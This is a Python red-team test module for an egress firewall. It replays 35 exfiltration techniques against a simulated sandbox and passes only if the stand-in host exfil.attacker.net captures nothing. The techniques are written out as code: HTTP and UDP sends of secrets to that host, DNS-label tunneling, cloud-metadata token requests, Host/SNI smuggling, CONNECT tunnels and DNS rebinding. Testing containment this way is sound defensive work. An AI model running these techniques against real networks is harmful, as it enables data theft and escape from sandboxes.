"""Capture-graded adversarial corpus: 30 exfil techniques over real sockets.

The semantic corpus (clawker_tpu_torch/adversarial/payloads.py) grades policy
*verdicts*.  This module re-drives the same 30 technique classes through
the :class:`~clawker_tpu_torch.parity.world.World` -- real DNS gate socket,
executed Envoy bootstrap, real attacker listeners -- and grades the way
the reference adversarial suite does (its test/adversarial notes): **the
suite passes only when the captures table is empty for every
technique.**  Any byte (or DNS query, or TCP reach) that lands on
attacker infrastructure is an escape, no matter what the verdict
taxonomy said.

Techniques that have no socket representation in the world (raw/packet
sockets, native IPv6, UDP reply spoofing) are driven through the kernel
twin and synthesize a capture record when enforcement would have let
them through -- the capture DB stays the single grading surface.

Reference: clawker's test/adversarial (attacker-server +
payloads/01..30); technique classes re-derived, not copied.

The port's copy of ``clawker_tpu/parity/redteam.py``, whole.
"""

from __future__ import annotations

import struct
import time
from pathlib import Path
from typing import Callable

from ..config.schema import EgressRule
from ..firewall import policy as policy_mod
from ..firewall.dnsgate import _encode_name
from ..firewall.hashes import zone_hash
from ..firewall.model import Action, DnsEntry
from .world import CG_AGENT, DNS_IP, ENVOY_IP, HOSTPROXY_IP, EgressBlocked, World

ATTACKER_DOMAIN = "exfil.attacker.net"

TECHNIQUES: list[tuple[str, "Callable[[World], str]"]] = []


def technique(name: str):
    def reg(fn):
        TECHNIQUES.append((name, fn))
        return fn
    return reg


def build_world(tmp: Path) -> World:
    """The standing rule set the corpus attacks (mirrors the semantic
    corpus defaults: wildcard TLS, exact TLS, ssh lane, plain HTTP).

    intra_net mirrors PRODUCTION enrollment (handler._container_policy
    always populates the bridge CIDR now): the corpus must grade the
    policy that ships, not a stricter test-only one.  The gateway
    exclusion keeps host ports out of the bypass."""
    from ..config.schema import PathRule

    rules = [
        EgressRule(dst="*.example.com", proto="https"),
        EgressRule(dst="exact.example.org", proto="https"),
        EgressRule(dst="github.com", proto="ssh", port=22),
        EgressRule(dst="plain.example.net", proto="http"),
        # wildcard MITM lane (path rules force inspection): the surface
        # techniques 31+ attack -- its DFP upstream resolves the request
        # authority, so vhost scoping is load-bearing
        EgressRule(dst="*.mitm.example.net", proto="https",
                   path_rules=[PathRule(path="/", action="allow")],
                   path_default="allow"),
    ]
    w = World(rules, tmp, intra_net=("10.99.0.0", 24))
    w.add_origin(["example.com", "api.example.com", "tun1.example.com"])
    w.add_origin(["exact.example.org", "sub.exact.example.org"])
    w.add_origin(["github.com"], banner=b"SSH-2.0-OpenSSH_9.6\r\n")
    w.add_origin(["plain.example.net"])
    w.add_origin(["mitm.example.net", "api.mitm.example.net"])
    w.add_attacker_host(ATTACKER_DOMAIN)
    w.add_attacker_host("attacker.net")
    w.add_attacker_host("evilexample.com")
    w.add_attacker_host("example.com.attacker.net")
    return w


def _atk_ip(w: World) -> str:
    return w.dns_table[ATTACKER_DOMAIN]


def _try_tcp(w: World, name: str, ip: str, port: int,
             payload: bytes = b"") -> str:
    """Attempt a TCP exfil; on kernel allow the bytes really flow (and
    the capture DB sees them)."""
    try:
        sock = w.open_tcp(ip, port, technique=name)
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    except OSError as e:
        return f"unreachable: {e}"
    try:
        if payload:
            sock.sendall(payload)
        sock.settimeout(2.0)
        try:
            sock.recv(256)
        except OSError:
            pass
    finally:
        sock.close()
    time.sleep(0.05)  # let the capture handler commit
    return "bytes flowed"


def _synth_on_allow(w: World, name: str, verdict, proto: str,
                    what: bytes) -> str:
    """Kernel-twin-only technique: enforcement failing open IS the
    escape, so record it in the capture DB where the grader looks."""
    if verdict.action is Action.DENY:
        return f"kernel deny: {verdict.reason.name}"
    w.attacker.set_technique(name)
    w.attacker.store.insert(name, proto, "synthetic", what)
    return f"fail-open: {verdict.action.name}/{verdict.reason.name}"


def _dns_query_bytes(qname: str) -> bytes:
    hdr = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    return hdr + _encode_name(qname) + struct.pack(">HH", 1, 1)


# ------------------------------------------------------------- techniques

@technique("01-direct-ip-https")
def t01(w): return _try_tcp(w, "01-direct-ip-https", _atk_ip(w), 443)


@technique("02-direct-ip-http")
def t02(w): return _try_tcp(w, "02-direct-ip-http", _atk_ip(w), 80,
                            b"GET /exfil?d=s3cr3t HTTP/1.1\r\nhost: x\r\n\r\n")


@technique("03-high-port-tcp")
def t03(w): return _try_tcp(w, "03-high-port-tcp", _atk_ip(w), 4444,
                            b"BEACON s3cr3t")


@technique("04-udp-datagram")
def t04(w):
    try:
        w.send_udp(_atk_ip(w), 9999, b"UDP EXFIL s3cr3t",
                   technique="04-udp-datagram")
        time.sleep(0.05)
        return "datagram sent"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("05-icmp-ping")
def t05(w):
    return _synth_on_allow(w, "05-icmp-ping", w.raw_socket_verdict(),
                           "icmp", b"<raw socket opened: icmp tunnel>")


@technique("06-packet-socket")
def t06(w):
    v = policy_mod.sock_create(w.maps, CG_AGENT, 2, policy_mod.SOCK_PACKET)
    return _synth_on_allow(w, "06-packet-socket", v, "packet",
                           b"<packet socket opened>")


@technique("07-hardcoded-resolver")
def t07(w):
    try:
        w.send_udp("8.8.8.8", 53, _dns_query_bytes(f"c2hlbGw.{ATTACKER_DOMAIN}"),
                   technique="07-hardcoded-resolver")
        time.sleep(0.05)
        return "query sent (rewritten to gate or captured)"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("08-resolve-attacker-domain")
def t08(w):
    w.attacker.set_technique("08-resolve-attacker-domain")
    rcode, ips = w.dig(ATTACKER_DOMAIN)
    return f"rcode={rcode} ips={ips}"


@technique("09-dns-tunnel")
def t09(w):
    w.attacker.set_technique("09-dns-tunnel")
    out = []
    for chunk in ("aGVsbG8", "d29ybGQ", "ZXhmaWw"):
        rcode, _ = w.dig(f"{chunk}.{ATTACKER_DOMAIN}")
        out.append(rcode)
    return f"rcodes={out}"


@technique("10-dns-tunnel-allowed-zone")
def t10(w):
    # data-in-label under an ALLOWED zone resolves via the gate (logged
    # upstream traffic to a benign resolver) -- contained, not captured
    w.attacker.set_technique("10-dns-tunnel-allowed-zone")
    rcode, _ = w.dig("tun1.example.com")
    return f"rcode={rcode} (allowed zone, benign upstream)"


@technique("11-ipv6-literal")
def t11(w):
    v = policy_mod.connect6(w.maps, CG_AGENT, "2001:db8::bad", 443)
    return _synth_on_allow(w, "11-ipv6-literal", v, "tcp6",
                           b"<native v6 egress>")


@technique("12-v4mapped-attacker")
def t12(w):
    v = policy_mod.connect6(w.maps, CG_AGENT, f"::ffff:{_atk_ip(w)}", 443)
    if v.action is Action.DENY:
        return f"kernel deny: {v.reason.name}"
    # the v4-mapped decision fell through: drive the real v4 connect
    return _try_tcp(w, "12-v4mapped-attacker", _atk_ip(w), 443)


@technique("13-loopback-not-egress")
def t13(w):
    # loopback must stay open (not egress) -- and produce zero captures
    v = policy_mod.connect4(w.maps, CG_AGENT, "127.0.0.1", 8080,
                            sock_cookie=w.cookie())
    return f"loopback verdict: {v.action.name} (functional, no exfil path)"


@technique("14-stale-cache-unruled-zone")
def t14(w):
    w.maps.cache_dns(_atk_ip(w), DnsEntry(
        zone_hash=zone_hash(ATTACKER_DOMAIN),
        expires_unix=int(time.time()) + 300))
    return _try_tcp(w, "14-stale-cache-unruled-zone", _atk_ip(w), 443)


@technique("15-port53-tcp-masquerade")
def t15(w): return _try_tcp(w, "15-port53-tcp-masquerade", _atk_ip(w), 53,
                            b"\x00\x20" + _dns_query_bytes(ATTACKER_DOMAIN))


@technique("16-udp53-masquerade")
def t16(w):
    try:
        w.send_udp(_atk_ip(w), 53, _dns_query_bytes("x.example.com"),
                   technique="16-udp53-masquerade")
        time.sleep(0.05)
        return "datagram sent (gate-rewritten or captured)"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("17-envoy-direct-wrong-sni")
def t17(w):
    import ssl
    w.attacker.set_technique("17-envoy-direct-wrong-sni")
    try:
        sock = w.open_tcp(ENVOY_IP, 10000, technique="17-envoy-direct-wrong-sni")
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        try:
            tls = ctx.wrap_socket(sock, server_hostname=ATTACKER_DOMAIN)
            tls.sendall(b"EXFIL")
            tls.close()
            return "handshake completed against attacker SNI"
        except (ssl.SSLError, OSError):
            return "proxy refused unknown SNI"
    finally:
        sock.close()


@technique("18-hostproxy-off-port")
def t18(w): return _try_tcp(w, "18-hostproxy-off-port", HOSTPROXY_IP, 2222)


@technique("19-gateway-service-scan")
def t19(w):
    out = []
    for port in (80, 443, 8080):
        out.append(_try_tcp(w, "19-gateway-service-scan", DNS_IP, port))
    return "; ".join(out)


@technique("20-subnet-neighbor-scan")
def t20(w): return _try_tcp(w, "20-subnet-neighbor-scan", "10.99.0.9", 445)


@technique("21-cloud-metadata")
def t21(w): return _try_tcp(w, "21-cloud-metadata", "169.254.169.254", 80,
                            b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")


@technique("22-ttl-expiry-race")
def t22(w):
    ip = "198.51.100.250"
    w.maps.cache_dns(ip, DnsEntry(zone_hash=zone_hash("example.com"),
                                  expires_unix=int(time.time()) - 10))
    w.maps.expire_dns()
    return _try_tcp(w, "22-ttl-expiry-race", ip, 443)


@technique("23-allowed-zone-wrong-port")
def t23(w):
    rcode, ips = w.dig("api.example.com")
    ip = ips[0] if ips else "198.51.100.10"
    return _try_tcp(w, "23-allowed-zone-wrong-port", ip, 2222)


@technique("24-allowed-zone-wrong-proto")
def t24(w):
    rcode, ips = w.dig("api.example.com")
    ip = ips[0] if ips else "198.51.100.10"
    try:
        w.send_udp(ip, 443, b"quic-shaped exfil",
                   technique="24-allowed-zone-wrong-proto")
        return "datagram sent"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("25-exact-rule-subdomain")
def t25(w):
    w.attacker.set_technique("25-exact-rule-subdomain")
    rcode, ips = w.dig("sub.exact.example.org")
    return f"rcode={rcode} ips={ips}"


@technique("26-lookalike-domain")
def t26(w):
    w.attacker.set_technique("26-lookalike-domain")
    rcode, ips = w.dig("evilexample.com")
    return f"rcode={rcode} ips={ips}"


@technique("27-zone-suffix-confusion")
def t27(w):
    w.attacker.set_technique("27-zone-suffix-confusion")
    rcode, ips = w.dig("example.com.attacker.net")
    return f"rcode={rcode} ips={ips}"


@technique("28-expired-bypass")
def t28(w):
    w.maps.set_bypass(CG_AGENT, int(time.time()) - 3600)
    try:
        return _try_tcp(w, "28-expired-bypass", _atk_ip(w), 443)
    finally:
        w.maps.clear_bypass(CG_AGENT)


@technique("29-udp-reply-spoof")
def t29(w):
    cookie = w.cookie()
    policy_mod.sendmsg4(w.maps, CG_AGENT, cookie, "9.9.9.9", 53)
    src = policy_mod.recvmsg4(w.maps, CG_AGENT, cookie, _atk_ip(w), 53)
    if src == (_atk_ip(w), 53):
        return "spoofed reply surfaced unmasked"
    w.attacker.set_technique("29-udp-reply-spoof")
    w.attacker.store.insert("29-udp-reply-spoof", "udp", "synthetic",
                            b"<reply spoof accepted as resolver traffic>")
    return f"spoof masked as {src} -- reverse-NAT confused"


@technique("30-allowed-flow-is-proxied")
def t30(w):
    # the happy path: allowed https must ride the proxy chokepoint AND
    # work; a direct-allow or a broken lane both fail the corpus
    w.attacker.set_technique("30-allowed-flow-is-proxied")
    v = policy_mod.connect4(w.maps, CG_AGENT, "198.51.100.10", 443,
                            sock_cookie=w.cookie())
    if v.action is Action.ALLOW:
        w.attacker.store.insert("30-allowed-flow-is-proxied", "tcp",
                                "synthetic", b"<allowed https went direct>")
        return "allowed https went direct (policy hole)"
    res = w.curl("https://api.example.com/ping")
    if not res.ok:
        # not an escape, but the corpus demands the chokepoint WORKS
        raise AssertionError(
            f"allowed flow broken through proxy: {res.err or res.code}")
    proxied = any(rec.get("sni") == "api.example.com" or
                  rec.get("authority", "").startswith("api.example.com")
                  for rec in w.envoy.access_log)
    if not proxied:
        raise AssertionError("allowed flow left no proxy access-log trace")
    return f"proxied, code={res.code}"


def _smuggle_https(w: World, name: str, sni: str, host: str,
                   target: str = "/exfil?d=s3cr3t",
                   method: str = "GET") -> str:
    """Handshake with an ALLOWED SNI, then smuggle a foreign Host."""
    import ssl

    rcode, ips = w.dig(sni)
    if rcode != 0 or not ips:
        return f"{sni} did not resolve (rcode={rcode})"
    try:
        sock = w.open_tcp(ips[0], 443, technique=name)
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        ctx = ssl.create_default_context(cafile=str(w.ca_bundle))
        tls = ctx.wrap_socket(sock, server_hostname=sni)
        tls.sendall(f"{method} {target} HTTP/1.1\r\nhost: {host}\r\n"
                    "connection: close\r\n\r\n".encode())
        out = b""
        try:
            while len(out) < 4096:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                out += chunk
        except OSError:
            pass
        tls.close()
        status = out.split(b"\r\n", 1)[0].decode("latin-1", "replace")
        time.sleep(0.1)
        return f"proxy answered: {status or '<closed>'}"
    except (OSError, ValueError) as e:
        return f"handshake/send failed: {e.__class__.__name__}"
    finally:
        sock.close()


# Techniques 31+ go BEYOND the reference's 30 payload classes: header-
# authority confusion against the MITM/HTTP lanes.  31 found a real
# escape during development (catch-all MITM vhosts let Host smuggling
# ride the DFP cluster to arbitrary upstreams); the corpus pins the fix.

@technique("31-sni-host-mismatch")
def t31(w):
    return _smuggle_https(w, "31-sni-host-mismatch",
                          "api.mitm.example.net", ATTACKER_DOMAIN)


@technique("32-host-mismatch-plain-http")
def t32(w):
    rcode, ips = w.dig("plain.example.net")
    if rcode != 0 or not ips:
        return f"plain.example.net did not resolve (rcode={rcode})"
    try:
        sock = w.open_tcp(ips[0], 80, technique="32-host-mismatch-plain-http")
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        sock.sendall(b"GET /exfil HTTP/1.1\r\nhost: " +
                     ATTACKER_DOMAIN.encode() + b"\r\nconnection: close\r\n\r\n")
        sock.settimeout(2.0)
        try:
            out = sock.recv(256)
        except OSError:
            out = b""
        time.sleep(0.1)
        status = out.split(b"\r\n", 1)[0].decode("latin-1", "replace")
        return f"proxy answered: {status}"
    finally:
        sock.close()


@technique("33-absolute-uri-authority")
def t33(w):
    # absolute-form request line: some proxies derive :authority from the
    # URI, overriding Host -- must not become an exfil channel either
    return _smuggle_https(w, "33-absolute-uri-authority",
                          "api.mitm.example.net", "api.mitm.example.net",
                          target=f"http://{ATTACKER_DOMAIN}/exfil")


@technique("34-dns-rebinding")
def t34(w):
    """An ALLOWED zone whose (attacker-run) DNS answers a link-local
    metadata address: the gate must refuse the answer -- a cached
    ip->zone entry would open a kernel route to 169.254.169.254."""
    meta_ip = "169.254.169.254"
    w.dns_table["meta.example.com"] = meta_ip        # hostile upstream A
    # if the rebound address ever becomes reachable, the bytes land on
    # attacker-visible infrastructure (the metadata thief's collector)
    w.endpoints[(meta_ip, 80)] = ("127.0.0.1", w.attacker.http_port)
    w.attacker.set_technique("34-dns-rebinding")
    rcode, ips = w.dig("meta.example.com")
    if rcode == 0 and ips:
        return _try_tcp(w, "34-dns-rebinding", ips[0], 80,
                        b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")
    verdict = _try_tcp(w, "34-dns-rebinding", meta_ip, 80)
    return f"rebind answer refused (rcode={rcode}); direct: {verdict}"


@technique("35-connect-tunnel")
def t35(w):
    """HTTP CONNECT through the MITM lane must not open a raw tunnel."""
    return _smuggle_https(w, "35-connect-tunnel", "api.mitm.example.net",
                          f"{ATTACKER_DOMAIN}:443",
                          target=f"{ATTACKER_DOMAIN}:443",
                          method="CONNECT")


# ---------------------------------------------------------------- grading

# How each technique's verdict is observed.  "socket": a real socket in
# the World (attacker listeners, executed Envoy, live DNS gate).  "twin":
# the kernel twin decides and a capture is synthesized on fail-open --
# honest, but it inherits the twin's fidelity.  "mixed": a twin verdict
# step guards a socket drive.  Twin-graded techniques are re-graded on
# the REAL kernel (kernel_regrade) wherever bpf(2) works, which is the
# fidelity the reference gets from its e2e containers.
TWIN_GRADED = {"05-icmp-ping", "06-packet-socket", "11-ipv6-literal",
               "13-loopback-not-egress", "29-udp-reply-spoof"}
MIXED_GRADED = {"12-v4mapped-attacker", "30-allowed-flow-is-proxied"}


def grading_of(name: str) -> str:
    if name in TWIN_GRADED:
        return "twin"
    if name in MIXED_GRADED:
        return "mixed"
    return "socket"


def _kprobe_packet_as_nobody() -> dict:
    """Packet sockets are OUTSIDE the inet sock_create hook's scope (the
    kernel only runs it for AF_INET/AF_INET6 creation); containment is
    the dropped CAP_NET_RAW in agent containers.  Reproduce that: drop
    privileges, then try both packet-socket forms."""
    import os as _os
    import socket as _s

    _os.setgroups([])
    _os.setresgid(65534, 65534, 65534)
    _os.setresuid(65534, 65534, 65534)
    out = {}
    for label, args in (("af_packet_raw", (17, _s.SOCK_RAW, 0x0300)),
                        ("legacy_sock_packet", (_s.AF_INET, 10, 0x0300))):
        try:
            _s.socket(*args).close()
            out[label] = "created"
        except OSError as e:
            out[label] = "eperm" if e.errno == 1 else f"errno-{e.errno}"
    return out


def _kprobe_udp_spoof() -> dict:
    """Victim flow to 9.9.9.9:53 (redirected to the gate), then a spoof
    datagram from a non-gate source: reverse-NAT must unmask only real
    gate replies."""
    import socket as _s

    victim = _s.socket(_s.AF_INET, _s.SOCK_DGRAM)
    victim.settimeout(1.0)
    victim.sendto(b"ping", ("9.9.9.9", 53))
    try:
        _, gate_src = victim.recvfrom(512)
    except OSError:
        gate_src = ("none", 0)
    port = victim.getsockname()[1]
    spoofer = _s.socket(_s.AF_INET, _s.SOCK_DGRAM)
    spoofer.bind(("127.0.0.2", 0))
    sp_port = spoofer.getsockname()[1]
    spoofer.sendto(b"<reply spoof>", ("127.0.0.1", port))
    try:
        _, spoof_src = victim.recvfrom(512)
    except OSError:
        spoof_src = ("none", 0)
    victim.close()
    spoofer.close()
    return {"gate_reply_src": list(gate_src),
            "spoof_src": list(spoof_src), "spoof_port": sp_port}


def kernel_regrade(tag: str = "redteam-kernel") -> dict | None:
    """Re-grade the twin-graded techniques against the real kernel:
    verifier-loaded programs on a scratch cgroup, probe children, real
    syscall results.  Returns {technique: {"pass", "detail"}} or None
    when bpf(2)/cgroup-v2 is unavailable."""
    from ..firewall import bpfkern
    from ..firewall.model import ContainerPolicy, FLAG_ENFORCE

    if not bpfkern.kernel_available():
        return None
    from ..firewall.bpflive import (
        LiveSandbox, TcpEcho, UdpResponder, probe_raw_socket,
        probe_tcp_connect, probe_tcp_connect6,
    )

    out: dict[str, dict] = {}

    def grade(name, ok, detail):
        out[name] = {"pass": bool(ok), "detail": detail}

    def skip(name, detail):
        # environment artifact, not a containment verdict: never flips
        # the technique's twin grade (bpfgate.py treats this the same)
        out[name] = {"pass": True, "skipped": True, "detail": detail}

    with LiveSandbox(tag) as sb:
        sb.enroll(ContainerPolicy(envoy_ip="127.0.0.1", dns_ip="127.0.0.1",
                                  flags=FLAG_ENFORCE))
        r = sb.run_in_cgroup(probe_raw_socket)
        grade("05-icmp-ping", r["result"] == "eperm",
              f"real SOCK_RAW: {r['result']}")
        r = sb.run_in_cgroup(_kprobe_packet_as_nobody)
        ok = ("error" not in r
              and r.get("af_packet_raw") == "eperm"
              and r.get("legacy_sock_packet") == "eperm")
        grade("06-packet-socket", ok,
              f"cap-contained (hook is inet-scoped): {r}")
        r = sb.run_in_cgroup(probe_tcp_connect6, "2001:db8::bad", 443, 1.0)
        grade("11-ipv6-literal", r["result"] == "eperm",
              f"real v6 connect: {r['result']}")
        r = sb.run_in_cgroup(probe_tcp_connect6, "::ffff:192.0.2.99", 443, 1.0)
        grade("12-v4mapped-attacker", r["result"] == "eperm",
              f"real v4-mapped connect: {r['result']}")
        srv = TcpEcho()
        srv.start()
        try:
            r = sb.run_in_cgroup(probe_tcp_connect, "127.0.0.1", srv.port, 1.0)
            grade("13-loopback-not-egress", r["result"] == "connected",
                  f"real loopback connect: {r['result']}")
        finally:
            srv.stop()
        gate = None
        try:
            gate = UdpResponder(port=53, reply=b"gate-reply")
            gate.start()
        except OSError as e:
            skip("29-udp-reply-spoof",
                 f"SKIP: cannot bind 127.0.0.1:53 ({e}) -- twin grade stands")
        if gate is not None:
            try:
                r = sb.run_in_cgroup(_kprobe_udp_spoof)
                ok = ("error" not in r
                      and r.get("gate_reply_src") == ["9.9.9.9", 53]
                      and (r.get("spoof_src") or ["?"])[0] == "127.0.0.2")
                grade("29-udp-reply-spoof", ok,
                      f"gate reply unmasked as {r.get('gate_reply_src')}, "
                      f"spoof surfaced as {r.get('spoof_src')}")
            finally:
                gate.stop()
    return out


def _corpus_shard(args: tuple[list[int], str]) -> dict:
    """Drive one shard of technique indices through its OWN World (its
    own tmpdir subtree, DNS gate socket, attacker listeners).  Top-level
    so a process pool can dispatch it; rows carry their original index
    so the merged scorecard keeps corpus order."""
    indices, base_str = args
    w = build_world(Path(base_str))
    rows = []
    try:
        for i in indices:
            name, fn = TECHNIQUES[i]
            w.attacker.set_technique(name)
            before = w.attacker.store.count()
            try:
                detail = fn(w)
                err = ""
            except AssertionError as e:
                detail, err = "", str(e)
            except Exception as e:  # noqa: BLE001 - corpus must finish
                detail, err = "", f"{e.__class__.__name__}: {e}"
            time.sleep(0.02)
            captured = w.attacker.store.count() - before
            ok = captured == 0 and not err
            rows.append({
                "index": i,
                "technique": name, "pass": ok, "captures": captured,
                "grading": grading_of(name), "detail": err or detail,
            })
        return {"rows": rows, "captures": w.attacker.store.count(),
                "evidence": [list(r) for r in w.attacker.store.all()]}
    finally:
        w.close()


def corpus_shards(base: Path, jobs: int) -> list[tuple[list[int], str]]:
    """Round-robin technique-index shards, one World subtree each;
    every entry is a ready-to-dispatch :func:`_corpus_shard` arg."""
    n = len(TECHNIQUES)
    if jobs <= 1:
        return [(list(range(n)), str(base / "world"))]
    jobs = min(jobs, n)
    return [(list(range(j, n, jobs)), str(base / f"world-{j}"))
            for j in range(jobs)]


def run_corpus(base: Path, jobs: int = 1) -> dict:
    """Drive every technique (30 reference classes + the beyond-reference
    31+ set) through capture-graded Worlds; per-technique capture counts.
    Returns the scorecard dict (never raises).

    ``jobs > 1`` shards the techniques round-robin across N worlds run
    in parallel PROCESSES (each world binds only ephemeral ports and
    owns its tmpdir subtree; the capture store stays per-world, so
    per-technique before/after counting is exactly as isolated as the
    serial single-world run).  The kernel regrade still runs once, in
    the parent, over the merged rows."""
    shards = corpus_shards(base, jobs)
    if len(shards) == 1:
        shard_docs = [_corpus_shard(shards[0])]
    else:
        import multiprocessing
        from concurrent.futures import ProcessPoolExecutor

        with ProcessPoolExecutor(
                max_workers=len(shards),
                mp_context=multiprocessing.get_context("fork")) as ex:
            shard_docs = list(ex.map(_corpus_shard, shards))
    return merge_shards(shard_docs)


def merge_shards(shard_docs: list[dict]) -> dict:
    """Fold shard scorecards back into corpus order and run the one
    parent-side kernel regrade over the merged rows."""
    results = sorted((r for doc in shard_docs for r in doc["rows"]),
                     key=lambda r: r.pop("index"))
    total_captures = sum(doc["captures"] for doc in shard_docs)
    evidence = [row for doc in shard_docs for row in doc["evidence"]]
    kernel_error = ""
    try:
        kernel = kernel_regrade()
    except Exception as e:  # noqa: BLE001 - regrade must not sink the corpus
        kernel = None
        kernel_error = f"{e.__class__.__name__}: {e}"
    if kernel:
        for r in results:
            kr = kernel.get(r["technique"])
            if kr is not None:
                r["kernel_regrade"] = kr
                if not kr["pass"]:
                    # the real kernel outranks the twin: a regrade
                    # failure fails the technique
                    r["pass"] = False
                    r["detail"] += f" | KERNEL REGRADE FAILED: {kr['detail']}"
    return {
        "passed": sum(1 for r in results if r["pass"]),
        "total": len(results),
        "captures": total_captures,
        "kernel_regraded": sorted(kernel or {}),
        "kernel_regrade_available": kernel is not None,
        "kernel_regrade_error": kernel_error,
        "capture_rows": [list(row) for row in evidence],
        "techniques": results,
    }
